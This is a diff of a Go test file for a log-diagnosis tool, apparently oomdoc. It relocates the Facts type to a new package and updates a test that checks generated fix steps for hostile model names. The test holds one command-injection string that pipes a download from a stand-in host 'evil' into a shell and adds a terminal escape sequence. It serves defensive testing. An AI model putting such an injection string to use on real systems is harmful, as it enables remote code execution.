@@ -4,11 +4,12 @@ import (
 	"strings"
 	"testing"
 
+	"github.com/oomdoc/oomdoc/parsers/fact"
+
 	"github.com/stretchr/testify/assert"
 	"github.com/stretchr/testify/require"
 
 	"github.com/oomdoc/oomdoc/diagnose"
-	"github.com/oomdoc/oomdoc/parsers"
 	"github.com/oomdoc/oomdoc/rules"
 )
 
@@ -137,7 +138,7 @@ func TestLowerQuantIsPlanned(t *testing.T) {
 
 // TestHostileNames: what a log says never becomes a command of its own.
 func TestHostileNames(t *testing.T) {
-	c := &rules.Case{Facts: &parsers.Facts{}, Model: rules.NewModel("x'; curl evil | sh #\n\x1b[2J", 1)}
+	c := &rules.Case{Facts: &fact.Facts{}, Model: rules.NewModel("x'; curl evil | sh #\n\x1b[2J", 1)}
 	for id, f := range rules.Fixes() {
 		for _, s := range f.Steps(c) {
 			assert.NotContains(t, s.Text, "\x1b", id)
